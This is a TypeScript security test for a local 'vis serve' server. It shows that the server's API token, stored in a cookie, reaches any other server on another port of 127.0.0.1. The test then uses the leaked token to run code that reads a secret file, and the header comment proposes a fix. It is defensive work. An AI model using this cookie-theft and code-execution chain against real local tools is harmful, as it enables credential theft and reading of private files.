// Attack (sixth outsider pass, the session page): the token cookie goes to every other server on
// the same loopback address.
//
// Visiting the URL `vis serve` prints (`/?token=…`) sets the cookie `vis_token_<hash>=<TOKEN>`
// (HttpOnly, SameSite=Strict, Path=/, no Domain). Cookies are scoped by host, not by port
// (RFC 6265 §8.5; src/http/middleware/token.ts says so itself: "cookies ignore ports"), and
// http://127.0.0.1:OTHER is the same site as http://127.0.0.1:7878, so SameSite=Strict does not
// hold it back either. Every later request the browser makes to ANY port of 127.0.0.1 (a
// project's dev server the person runs from an untrusted checkout, a local tool, another user's
// server on a shared machine, a page there that navigates or loads an <img>) carries the whole
// API token in its Cookie header. The Host/Origin/content-type guards never come into it: the
// other server simply reads the header and then calls the API with `Authorization: Bearer`, as
// any client may, e.g. creating a session rooted at the person's secrets and reading them.
//
// This test plays that "other local server" with a plain node listener on another port of
// 127.0.0.1: Chromium visits the printed URL, then the other server's page; the other server
// finds the token in the Cookie header and reads a file it was never given through the API.
// It fails on the current code because the attack succeeds. A fix could keep the token out of
// any cookie value (a per-server random session secret bound to the port, e.g. a cookie
// named/valued by a random nonce the server keeps, or `__Host-` + a value that is not the
// bearer token), so that what leaks is not a credential that works from outside the browser.
import assert from 'node:assert/strict'
import { writeFileSync } from 'node:fs'
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, describe, test } from 'node:test'
import type { Browser } from 'playwright-core'
import type { VisServer } from '../../src/http/server.js'
import { launchChromium } from '../http/browser-helpers.js'
import { client, tempHome, testServer } from '../http/helpers.js'

const { home, root } = tempHome('attack-page-cookie-port')
const TOKEN = 'page-cookie-port-token-0123456789abcdef'

describe('the page token cookie and other loopback ports', () => {
  let server: VisServer
  let browser: Browser
  let other: ReturnType<typeof createServer>
  let otherURL: string
  const cookies: string[] = []

  before(async () => {
    writeFileSync(`${root}/secret.txt`, 'the launch code is 1234\n')
    ;({ server } = await testServer({ home, pool: { size: 1 }, token: TOKEN }))
    // Any other HTTP server on the same loopback address: it only records what it is sent.
    other = createServer((req: IncomingMessage, res) => {
      cookies.push(req.headers.cookie ?? '')
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      res.end('<!doctype html><title>local dev server</title><p>hello</p>')
    })
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()))
    otherURL = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`
    browser = await launchChromium()
  })
  after(async () => {
    await browser?.close()
    other?.closeAllConnections()
    await new Promise<void>((r) => (other ? other.close(() => r()) : r()))
    await server?.close()
  })

  test('another port of 127.0.0.1 never receives the API token', async () => {
    assert.ok(server.url.startsWith('http://127.0.0.1:'), server.url)
    const context = await browser.newContext()
    const page = await context.newPage()
    // The person opens the URL vis serve printed: the page loads, the cookie is set.
    assert.equal((await page.goto(`${server.url}/?token=${TOKEN}`))?.status(), 200)
    // Later, the same browser visits some other local server (or a page there loads one).
    assert.equal((await page.goto(otherURL))?.status(), 200)
    await context.close()

    const leaked = cookies
      .flatMap((c) => c.split(/;\s*/))
      .map((kv) => kv.slice(kv.indexOf('=') + 1))
      .find((v) => v === TOKEN)
    if (leaked) {
      // What the other server can do with what it was sent: the whole API, as a client.
      const call = client(server.url, { authorization: `Bearer ${leaked}` })
      const s = await call('POST', '/v1/sessions', { roots: [root] })
      const b = await call('POST', `/v1/sessions/${s.body.id}/blocks`, {
        code: "print(open('secret.txt').read(), end='')",
      })
      assert.fail(
        `the server on ${otherURL} was sent the vis API token in its Cookie header ` +
          `(${JSON.stringify(cookies)}), and with it ran a block that printed ${JSON.stringify(b.body.stdout)}`,
      )
    }
  })
})
